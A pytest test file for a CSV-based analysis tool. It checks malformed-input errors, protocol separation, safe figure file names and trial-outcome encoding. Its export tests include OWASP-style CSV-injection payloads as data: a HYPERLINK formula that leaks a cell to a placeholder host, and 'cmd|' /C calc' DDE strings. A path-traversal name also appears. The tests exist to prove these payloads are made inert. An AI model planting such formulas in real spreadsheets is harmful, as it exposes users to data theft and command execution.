"""Malformed analysis input: every bad CSV is refused in one line naming the file and the row or
column; studies measured under different protocols are never fitted as one curve."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import numpy as np
import pandas as pd
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from analysis.cli import main
from analysis.plots import file_stem
from analysis.csv_io import STUDY_COLUMNS, csv_text, read_csv, spreadsheet_text, unquoted_text, write_csv
from analysis.regimes import fit_table
from edps_mlflow.results import (TrialOutcome, TrialStatus, decode_trial_outcomes, encode_trial_outcomes,
                                 trial_outcome_columns, trial_outcome_fields)

FIXTURES = Path(__file__).parent / "fixtures"
STEPS = (FIXTURES / "synthetic_steps.csv").read_text()
TRIALS = (FIXTURES / "synthetic_trials.csv").read_text()
FUZZ = settings(max_examples=30, deadline=None,
                suppress_health_check=[HealthCheck.too_slow, HealthCheck.function_scoped_fixture])
GARBAGE_CELLS = ["", "nan", "NaN", "inf", "-inf", "1e400", "-1", "0", "2.5", "abc", "\"", "'", "\\", "\x01", "é",
                 "1,2", "  ", "None", "null", "0x10", "1e3", "-0.0", "reached", "superseded", "diverge"]


def run(argv: list[str], capsys) -> tuple[int, str]:
    try:
        main(argv)
        code = 0
    except SystemExit as exit_info:
        code = exit_info.code
    captured = capsys.readouterr()
    assert "Traceback" not in captured.err + captured.out
    if code != 0:
        lines = captured.err.strip().splitlines()
        assert code == 2 and len(lines) == 1 and lines[0].startswith("edps-analyze: error: "), captured.err
        return code, lines[0]
    return code, ""


def write(directory: Path, name: str, content: str | bytes) -> str:
    path = directory / name
    path.write_bytes(content if isinstance(content, bytes) else content.encode())
    return str(path)


@pytest.fixture
def folder(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv("MLFLOW_TRACKING_URI", f"sqlite:///{tmp_path / 'never.db'}")
    return tmp_path


@FUZZ
@given(content=st.binary(max_size=300), command=st.sampled_from(["fit", "table"]))
def test_random_bytes(content, command, folder, capsys):
    path = write(folder, "random.csv", content)
    run([command, "--csv", path, "--bootstrap", "0"] if command == "fit" else [command, "--csv", path], capsys)


ROW_VALUES = st.one_of(st.sampled_from(GARBAGE_CELLS), st.sampled_from(["synthetic", "sgd", "0.5", "64", "1000"]))


@FUZZ
@given(header=st.lists(st.sampled_from(STUDY_COLUMNS + ("extra",)), min_size=0, max_size=10),
       rows=st.lists(st.lists(ROW_VALUES, min_size=0, max_size=11), max_size=5),
       command=st.sampled_from(["fit", "table"]))
def test_random_columns_and_cells(header, rows, command, folder, capsys):
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    writer.writerow(header)
    writer.writerows(rows)
    path = write(folder, "columns.csv", buffer.getvalue())
    code, line = run([command, "--csv", path], capsys)
    if code:
        assert path in line
    if len(set(header)) < len(header):
        assert code == 2 and "appears more than once" in line


NUMERIC_STUDY_COLUMNS = ("sparsity", "batch_size", "goal_error", "steps_to_result", "trials_total")
NOT_A_VALUE = {"sparsity": ["nan", "inf", "-0.5", "1", "abc", "1e400"],
               "batch_size": ["0", "-4", "2.5", "nan", "inf", "sixteen", "1e400"],
               "goal_error": ["0", "-0.1", "nan", "inf", "x"],
               "steps_to_result": ["0", "-5", "nan", "inf", "many"],
               "trials_total": ["0", "-1", "1.5", "nan", "inf"]}


@FUZZ
@given(data=st.data(), command=st.sampled_from(["fit", "table"]))
def test_one_bad_cell_is_named(data, command, folder, capsys):
    table = pd.read_csv(io.StringIO(STEPS), dtype=str, keep_default_na=False)
    column = data.draw(st.sampled_from(NUMERIC_STUDY_COLUMNS))
    row = data.draw(st.integers(min_value=0, max_value=len(table) - 1))
    value = data.draw(st.sampled_from(NOT_A_VALUE[column]))
    table.loc[row, column] = value
    path = write(folder, "one-bad-cell.csv", table.to_csv(index=False))
    code, line = run([command, "--csv", path], capsys)
    assert code == 2 and path in line and f"column {column}" in line and f"row {row + 2}" in line, line


CASES = [
    ("empty.csv", "", "is empty"),
    ("blank.csv", "\n\n", "is empty"),
    ("header-only.csv", STEPS.splitlines()[0] + "\n", "has a header but no rows"),
    ("duplicate.csv", "workload,optimizer,sparsity,batch_size,batch_size,steps_to_result\nw,sgd,0,4,4,10\n",
     "the column 'batch_size' appears more than once"),
    ("zero-batch.csv", "workload,optimizer,sparsity,batch_size,steps_to_result\nw,sgd,0,0,10\n",
     "column batch_size must be an integer >= 1; row 2 has '0'"),
    ("negative-batch.csv", "workload,optimizer,sparsity,batch_size,steps_to_result\nw,sgd,0,-8,10\n",
     "column batch_size must be an integer >= 1; row 2 has '-8'"),
    ("inf-steps.csv", "workload,optimizer,sparsity,batch_size,steps_to_result\nw,sgd,0,8,inf\n",
     "column steps_to_result must be a finite number > 0; row 2 has 'inf'"),
    ("nan-sparsity.csv", "workload,optimizer,sparsity,batch_size,steps_to_result\nw,sgd,nan,8,10\n",
     "column sparsity must be a finite number in [0, 1); row 2 has 'nan'"),
    ("no-sparsity.csv", "workload,optimizer,sparsity,batch_size,steps_to_result\nw,sgd,,8,10\n",
     "column sparsity needs a value in every row; row 2 has none"),
    ("ragged.csv", "workload,optimizer,sparsity,batch_size,steps_to_result\nw,sgd,0,8,10,11,12\n",
     "is not a readable CSV file"),
    ("latin1.csv", "workload,optimizer,sparsity,batch_size,steps_to_result\nw\xe9,sgd,0,8,10\n".encode("latin-1"),
     "row 2 is not UTF-8 text"),
    ("directory", None, "is not a file"),
]


@pytest.mark.parametrize("name,content,message", CASES)
def test_malformed_study_csv(name, content, message, folder, capsys):
    if content is None:
        (folder / name).mkdir()
        path = str(folder / name)
    else:
        path = write(folder, name, content)
    for command in (["fit", "--bootstrap", "0"], ["table"]):
        code, line = run([*command, "--csv", path], capsys)
        assert code == 2 and path in line and message in line, line


TRIAL_CASES = [
    ("trials-other-keys.csv", TRIALS.replace("synthetic-", "other-"),
     "none of its study_key values matches a study"),
    ("trials-bad-status.csv", TRIALS.replace(",reached,", ",finished,", 1),
     "column status must be one of diverged, not_reached, reached, superseded; row 2 has 'finished'"),
    ("trials-no-key.csv", "\n".join(",".join(line.split(",")[1:]) for line in TRIALS.splitlines()) + "\n",
     "lacks the column(s) study_key"),
    ("trials-inf.csv", TRIALS.replace("138740.0,138740.0", "inf,138740.0", 1),
     "column steps_to_result must be a finite number > 0; row 2 has 'inf'"),
]


@pytest.mark.parametrize("name,content,message", TRIAL_CASES)
def test_malformed_trials_csv(name, content, message, folder, capsys):
    path = write(folder, name, content)
    code, line = run(["fit", "--csv", str(FIXTURES / "synthetic_steps.csv"), "--trials-csv", path,
                      "--bootstrap", "5"], capsys)
    assert code == 2 and message in line, line
    if "matches" in message:
        assert path in line


def test_study_table_without_study_keys_cannot_take_a_trials_csv(folder, capsys):
    table = pd.read_csv(io.StringIO(STEPS)).drop(columns=["study_key"])
    path = write(folder, "no-keys.csv", table.to_csv(index=False))
    code, line = run(["fit", "--csv", path, "--trials-csv", str(FIXTURES / "synthetic_trials.csv"),
                      "--bootstrap", "5"], capsys)
    assert code == 2 and "needs a study_key column" in line


def _curve(batch_sizes, steps, **extra) -> pd.DataFrame:
    return pd.DataFrame({"workload": "w", "optimizer": "sgd", "sparsity": 0.0, "batch_size": batch_sizes,
                         "steps_to_result": steps, "study_key": [f"k{b}{extra}" for b in batch_sizes], **extra})


@pytest.mark.parametrize("column,values", [("goal_error", (0.05, 0.02)), ("trials_total", (8, 16)),
                                           ("check_interval", (10, 100)), ("max_steps", (1000, 5000))])
def test_studies_of_other_protocols_are_separate_curves(column, values):
    sizes = [4, 16, 64, 256]
    table = pd.concat([_curve(sizes, [4000.0, 1100.0, 400.0, 300.0], **{column: values[0]}),
                       _curve(sizes, [9000.0, 2500.0, 900.0, 700.0], **{column: values[1]})], ignore_index=True)
    fits = fit_table(table, repeats=0)
    shown = "goal" if column == "goal_error" else column  # a table with only goal_error: its goal
    assert len(fits) == 2 and sorted(fits[shown]) == sorted(values)
    assert all(f"the studies differ in {shown}" in note for note in fits["note"])
    single = fit_table(table[table[column] == values[0]], repeats=0)
    assert len(single) == 1 and single["note"].iloc[0] == "" and single[shown].iloc[0] == values[0]
    assert single["s_min"].iloc[0] == pytest.approx(fits.set_index(shown).loc[values[0], "s_min"])


def test_csv_without_protocol_columns_still_reads(folder, capsys):
    path = write(folder, "minimal.csv", "workload,optimizer,sparsity,batch_size,steps_to_result\n"
                 "w,sgd,0,4,4000\nw,sgd,0,16,1100\nw,sgd,0,64,400\nw,sgd,-0.0,256,300\n")
    code, _ = run(["fit", "--csv", path, "--bootstrap", "0", "--format", "csv"], capsys)
    assert code == 0


def test_plot_and_report_of_two_protocols_and_a_repeated_row(folder, capsys):
    """Figures and the sparsity comparison keep protocols apart too; a batch size listed twice is no crash."""
    sizes = [4, 16, 64, 256]
    table = pd.concat([_curve(sizes, [4000.0, 1100.0, 400.0, 300.0], goal_error=0.05),
                       _curve(sizes, [9000.0, 2500.0, 900.0, 700.0], goal_error=0.02),
                       _curve([16], [1000.0], goal_error=0.05)], ignore_index=True)
    path = write(folder, "two-protocols.csv", table.to_csv(index=False))
    code, _ = run(["report", "--csv", path, "--bootstrap", "0", "--output", str(folder / "r.md")], capsys)
    assert code == 0
    text = (folder / "r.md").read_text()
    assert text.count("the studies differ in goal") >= 2


# ---- CSV cells that a spreadsheet would run, and the round trip of export and --csv -----------------------
# Each starts as a spreadsheet formula would (OWASP's CSV injection list: = + - @ tab carriage return), or
# with a "'" before one (it must come back with its own "'").
FORMULAS = ['=HYPERLINK("http://example.invalid/?"&A1,"open")', "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "'=already quoted", "-inf"]
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
# What --csv reads each as: a "'" before a formula is the mark that export writes, and reading removes it.
READ_AS = [formula[1:] if formula.startswith("'") else formula for formula in FORMULAS]


def _formula_csv(table: pd.DataFrame) -> str:
    """A CSV as a spreadsheet saves it: CRLF line ends, so that a cell holding a carriage return is quoted."""
    return table.to_csv(index=False, lineterminator="\r\n")


def _assert_same_table(source: str | Path, written: str | Path) -> pd.DataFrame:
    """``--csv`` reads ``written`` as the table it reads ``source`` as: the same values in the source's columns,
    and the study columns the source lacks empty in both. Returns the table read from ``written``."""
    original, again = read_csv(source), read_csv(written)
    given = list(pd.read_csv(source, nrows=0).columns)
    pd.testing.assert_frame_equal(original[given], again[given])
    for table in (original, again):
        assert table.drop(columns=given).isna().all().all()
    return again


def _formula_table() -> pd.DataFrame:
    rows = []
    for index, formula in enumerate(FORMULAS):
        for batch_size, steps in ((4, 4000.0), (16, 1100.0), (64, 400.0)):
            rows.append({"workload": formula, "optimizer": "@sgd" if index % 2 else "sgd", "sparsity": 0.0,
                         "batch_size": batch_size, "steps_to_result": steps, "goal_error": 0.05,
                         "device": "=cpu()", "experiment": "+e", "study_key": f"-k{index}-{batch_size}",
                         "study_run_id": "-0.5" if index == 0 else f"run{index}-{batch_size}"})
    return pd.DataFrame(rows)


def test_export_makes_formula_cells_inert_and_reads_back_as_the_same_table(folder, capsys):
    source = write(folder, "formulas.csv", _formula_csv(_formula_table()))
    exported = folder / "exported.csv"
    code, _ = run(["export", "--csv", source, "--output", str(exported)], capsys)
    assert code == 0
    records = list(csv.reader(io.StringIO(exported.read_bytes().decode())))
    header, rows = records[0], records[1:]
    cells = [cell for row in rows for cell in row]
    # no cell of the file starts as a formula, except a number (a negative number is no formula)
    assert not [c for c in cells if c.startswith(FORMULA_STARTS) and c != "-0.5"], cells
    column = {name: [row[i] for row in rows] for i, name in enumerate(header)}
    assert set(column["workload"]) == {f"'{value}" for value in READ_AS}
    assert set(column["optimizer"]) == {"sgd", "'@sgd"} and set(column["device"]) == {"'=cpu()"}
    assert column["study_run_id"][0] == "-0.5" and column["sparsity"][0] == "0.0"
    text = exported.read_text()
    assert '"-0.5"' in text and "'-0.5" not in text  # text that reads as a number stays as it is
    assert "\n0.0,4," not in text and ",0.0,4," in text  # numbers unquoted
    # --csv reads back the same table: the "'" that export added is gone, nothing else changed
    again = _assert_same_table(source, exported)
    assert set(again["workload"]) == set(READ_AS)
    # exporting what was exported writes the same bytes; so does standard output
    code, _ = run(["export", "--csv", str(exported), "--output", str(folder / "twice.csv")], capsys)
    assert code == 0 and (folder / "twice.csv").read_bytes() == exported.read_bytes()
    main(["export", "--csv", str(exported)])
    assert capsys.readouterr().out == exported.read_bytes().decode()


def test_experiment_filters_a_csv_and_a_missing_output_folder_is_refused_before_any_work(folder, capsys):
    steps = write(folder, "steps.csv", STEPS)  # its experiment column: "synthetic"
    assert run(["export", "--csv", steps, "--experiment", "synth*", "--output", "all.csv"], capsys)[0] == 0
    assert len(pd.read_csv(folder / "all.csv")) == len(pd.read_csv(steps))
    assert run(["fit", "--csv", steps, "--experiment", "other"], capsys) == (
        2, "edps-analyze: error: no studies left after the filters")
    bare = write(folder, "bare.csv", pd.read_csv(steps).drop(columns="experiment").to_csv(index=False))
    assert run(["fit", "--csv", bare, "--experiment", "synthetic"], capsys) == (2, (
        f"edps-analyze: error: --experiment with --csv filters the table's experiment column, which {bare} lacks"))
    for command, name in (("report", "r.html"), ("export", "s.csv")):  # a typo makes no folders
        assert run([command, "--csv", steps, "--output", f"typo/{name}"], capsys) == (
            2, f"edps-analyze: error: cannot write typo/{name}: no folder typo")
    assert not (folder / "typo").exists()


def test_csv_output_of_every_command_is_inert_too(folder, capsys):
    """`table --format csv` (the study table with every column) and `fit --format csv` write as export does."""
    source = write(folder, "formulas.csv", _formula_csv(_formula_table().assign(extra=-0.5)))
    for command in (["table"], ["fit", "--bootstrap", "0"]):
        main([*command, "--csv", source, "--format", "csv"])
        out = capsys.readouterr().out
        cells = [cell for row in csv.reader(io.StringIO(out)) for cell in row]
        assert "'=HYPERLINK(" in out and not [c for c in cells if c.startswith(FORMULA_STARTS) and c != "-0.5"]
    table = folder / "table.csv"
    main(["table", "--csv", source, "--format", "csv"])
    table.write_text(capsys.readouterr().out, newline="")
    _assert_same_table(source, table)


@settings(max_examples=300, deadline=None)
@given(text=st.text(st.characters(blacklist_categories=("Cs",)), max_size=12))
def test_spreadsheet_text_is_inert_and_undone_exactly(text):
    written = spreadsheet_text(text)
    assert unquoted_text(written) == text
    if written.startswith(FORMULA_STARTS):
        float(written)  # only a number may start like a formula
    assert written in (text, "'" + text)


# Any character, the ones that CSV, spreadsheets and our reader treat specially drawn often.
NAME_CHARACTERS = st.one_of(st.sampled_from(list("\r\n\t\x00\"',; =+-@\ufeff")),
                            st.characters(blacklist_categories=("Cs",)))
NAMES = st.text(NAME_CHARACTERS, min_size=1, max_size=10).filter(str.strip)


@FUZZ
@given(workloads=st.lists(NAMES, min_size=1, max_size=3, unique=True), optimizer=NAMES, key=NAMES)
def test_any_names_survive_export_and_read_back(workloads, optimizer, key, folder):
    table = pd.DataFrame({"workload": workloads, "optimizer": optimizer, "sparsity": 0.0, "batch_size": 8,
                          "steps_to_result": 100.0, "study_key": [f"{key}{i}" for i in range(len(workloads))]})
    first, second, third = (folder / f"{name}.csv" for name in ("first", "second", "third"))
    write_csv(table, first)
    again = read_csv(first)
    pd.testing.assert_frame_equal(again[list(table.columns)], table)
    write_csv(again, second)
    write_csv(read_csv(second), third)
    assert third.read_bytes() == second.read_bytes()


def test_numbers_are_written_as_numbers():
    text = csv_text(pd.DataFrame({"slope": [-0.5, 1e-300, -0.0], "name": ["-0.5", "-1e-3", "-x"]}))
    assert text.splitlines()[1:] == ['-0.5,"-0.5"', '1e-300,"-1e-3"', "-0.0,\"'-x\""]


# ---- file names made from names read from a CSV or a store --------------------------------------------------
def _timed_curve(workload: str, optimizer: str = "sgd") -> pd.DataFrame:
    """One curve of three studies, timed (so that `report` and `time` draw their time figures too)."""
    return pd.DataFrame({"workload": workload, "optimizer": optimizer, "sparsity": 0.0, "batch_size": [8, 32, 128],
                         "steps_to_result": [1000.0, 300.0, 200.0], "seconds_per_step": [0.001, 0.002, 0.008],
                         "pack_size": 1.0, "device": "cpu $x^$", "model_parameter_bytes": 4e6})


def _figures_in(directory: Path) -> list[Path]:
    files = sorted(p for p in directory.rglob("*") if p.is_file())
    assert all(p.parent == directory for p in files), files  # nothing in a folder a name made
    return files


def test_plot_of_a_workload_with_a_slash(folder, capsys):
    """The tester's crash: workload 'a/b' made `plot` save figures/steps_a/b_sgd.png (no such folder)."""
    path = write(folder, "slash.csv", _timed_curve("a/b").to_csv(index=False))
    code, _ = run(["plot", "--csv", path, "--out-dir", "figures"], capsys)
    assert code == 0
    assert [p.suffix for p in _figures_in(folder / "figures")] == [".png", ".svg"] * 2
    code, _ = run(["time", "--csv", path, "--out-dir", "times"], capsys)
    assert code == 0 and len(_figures_in(folder / "times")) == 2


# Two workloads that clean to the same characters; an optimizer that is a path out of the folder, with NUL,
# longer than a file name may be, and a '$' that matplotlib would read as the start of a formula.
PATH_NAMES = ["a/b", "a\\b"]
PATH_OPTIMIZER = "../../$\\frac{$\x00" + "x" * 300


def test_report_draws_every_curve_to_its_own_file(folder, capsys):
    table = pd.concat([_timed_curve(name, PATH_OPTIMIZER) for name in PATH_NAMES], ignore_index=True)
    path = write(folder, "names.csv", table.to_csv(index=False))
    (folder / "out").mkdir()
    code, _ = run(["report", "--csv", path, "--bootstrap", "0", "--output", "out/report.md", "--svg"], capsys)
    assert code == 0
    files = _figures_in(folder / "out" / "report_figures")
    # a steps, a sparsity and a time figure per curve, each as PNG and SVG (--svg): none overwrote another
    assert len(files) == 3 * 2 * len(PATH_NAMES)
    assert not (folder / "x").exists() and sorted(p.name for p in folder.iterdir()) == ["names.csv", "out"]
    links = re.findall(r"!\[[^\]]*\]\(([^)]+)\)", (folder / "out" / "report.md").read_text())
    assert len(links) == 3 * len(PATH_NAMES) and all((folder / "out" / link).is_file() for link in links)


VALUES = st.text(st.characters(blacklist_categories=("Cs",)), max_size=80)


@settings(max_examples=500, deadline=None)
@given(first=st.tuples(VALUES, VALUES), second=st.tuples(VALUES, VALUES))
def test_file_stems_are_safe_and_distinct(first, second):
    for values in (first, second):
        stem = file_stem("steps", *values)
        assert re.fullmatch(r"[a-z0-9._-]+", stem) and len(stem) <= 120 and ".." not in stem.split("_")
    if first != second:
        assert file_stem("steps", *first) != file_stem("steps", *second)


def test_file_stems_of_plain_names_stay_as_they_were():
    assert file_stem("steps", "digits-simple-cnn", "sgd") == "steps_digits-simple-cnn_sgd"
    assert file_stem("time", "w", "sgd", "sp0.5") == "time_w_sgd_sp0.5"
    alike = ["a/b", "a\\b", "a-b", "A-B", "a_b", "a b", "a\x00b", "a--b"]
    stems = {file_stem("steps", name, "sgd") for name in alike}
    assert len(stems) == len(alike) and "steps_a-b_sgd" in stems
    # a name and two names that join to it are different files
    assert file_stem("steps", "x_y", "z") != file_stem("steps", "x", "y_z")


_OUTCOMES = st.lists(st.builds(lambda index, status, reached, trained: (index, status, reached, trained),
                               st.integers(0, 10**6), st.sampled_from(list(TrialStatus)),
                               st.none() | st.integers(0, 10**9), st.integers(0, 10**9)),
                     max_size=30, unique_by=lambda outcome: outcome[0])


@settings(max_examples=200, deadline=None)
@given(outcomes=_OUTCOMES, garbage=st.text(max_size=40))
def test_the_trial_outcomes_tag_reads_back_what_was_written_and_refuses_anything_else(outcomes, garbage):
    """What the bootstrap reads of a study's trials from one tag (results.encode_trial_outcomes): every trial
    back, in index order; a text in another format, or one cut or spoiled anywhere, is refused whole (the
    reader then downloads the study's trials.csv), never half-read and never an error."""
    written = [TrialOutcome(*outcome) for outcome in outcomes]
    text = encode_trial_outcomes(written)
    assert decode_trial_outcomes(text) == sorted(written, key=lambda o: o.trial_index)
    assert trial_outcome_fields(text) == [(o.trial_index, o.status.value, o.steps_to_result, o.steps_trained)
                                          for o in sorted(written, key=lambda o: o.trial_index)]
    middle = len(text) // 2
    for spoiled in (garbage, text + " " + garbage, text[:middle] + garbage[:1] + text[middle + 1:],
                    text[: max(1, middle)] + "?", "v2" + text[2:]):
        # Refused whole, or read as trials that write back to what was read (never a part of a text).
        decoded = decode_trial_outcomes(spoiled)
        fields = trial_outcome_fields(spoiled)
        assert (decoded is None) == (fields is None), spoiled
        if decoded is not None:
            assert decode_trial_outcomes(encode_trial_outcomes(decoded)) == sorted(decoded, key=lambda o: o.trial_index)
            assert len(decoded) == spoiled.count(":"), spoiled
        # The reader of many studies at once refuses the same texts, and reads the others as one at a time.
        columns = trial_outcome_columns([text, spoiled, None])
        assert list(columns.readable) == [True, fields is not None, False], spoiled
        if fields is None:
            assert list(columns.counts) == [len(outcomes), 0, 0]
            assert len(columns.trial_index) == len(outcomes)
        else:
            assert list(columns.counts) == [len(outcomes), len(fields), 0]
            read = list(zip(columns.trial_index.tolist(), [columns.statuses[c].value for c in columns.status_codes],
                            [None if np.isnan(r) else int(r) for r in columns.steps_to_result],
                            [int(t) for t in columns.steps_trained]))
            assert read == trial_outcome_fields(text) + fields, spoiled


def test_trial_outcome_numbers_are_read_exactly_and_too_long_ones_refused():
    """An index beyond a float's 53 bits is read exactly by both readers; an index of 19 digits or more, or a step
    count of 16, is no trial's: its text is refused by both, as a text in another format is, and the other texts
    of the batch are read as they are."""
    exact = "v1 9007199254740993:r10@7 1:n5"
    too_long = "v1 0:r5@1000000000000000000"
    # Steps are held as floats by the columns: a step count of 16 digits would be read rounded, so it is refused.
    long_steps = "v1 1:r9007199310000001"
    columns = trial_outcome_columns([exact, too_long, long_steps, "v1 000000000000000002:s3"])
    assert list(columns.readable) == [True, False, False, True] and list(columns.counts) == [2, 0, 0, 1]
    assert columns.trial_index.tolist() == [9007199254740993, 1, 2]
    assert trial_outcome_fields(exact)[0][0] == 9007199254740993
    assert trial_outcome_fields(too_long) is None and trial_outcome_fields(long_steps) is None


@settings(max_examples=50, deadline=None)
@given(studies=st.lists(_OUTCOMES, min_size=1, max_size=5))
def test_many_studies_trials_are_read_into_one_table_as_each_study_wrote_them(studies):
    """The trials table of many studies, converted column by column at once (results.trial_outcome_columns,
    then load._trials_frame with categorical keys and statuses): each trial as trial_outcome_fields reads it
    one at a time, and the same outcomes per study for the bootstrap as from a table of plain strings."""
    from analysis.load import _trials_frame
    from analysis.bootstrap import outcomes_by_study

    texts = [encode_trial_outcomes([TrialOutcome(*outcome) for outcome in outcomes]) for outcomes in studies]
    keys = [f"study-{number}" for number in range(len(texts))]
    columns = trial_outcome_columns(texts)
    assert list(columns.counts) == [len(trial_outcome_fields(text)) for text in texts]
    if not len(columns.trial_index):
        return
    table = _trials_frame(keys, columns)
    expected = [(key, *fields) for key, text in zip(keys, texts) for fields in trial_outcome_fields(text)]
    got = [(key, int(index), status, None if np.isnan(reached) else int(reached), int(trained)) for
           key, index, status, reached, trained in table[["study_key", "trial_index", "status", "steps_to_result",
                                                           "steps_trained"]].itertuples(index=False)]
    assert got == expected
    plain = table.astype({"study_key": str, "status": str})
    for key, outcomes in outcomes_by_study(table).items():
        other = outcomes_by_study(plain)[key]
        assert (outcomes.trials, outcomes.superseded) == (other.trials, other.superseded)
        np.testing.assert_array_equal(outcomes.reached_steps, other.reached_steps)  # NaN: reached without steps
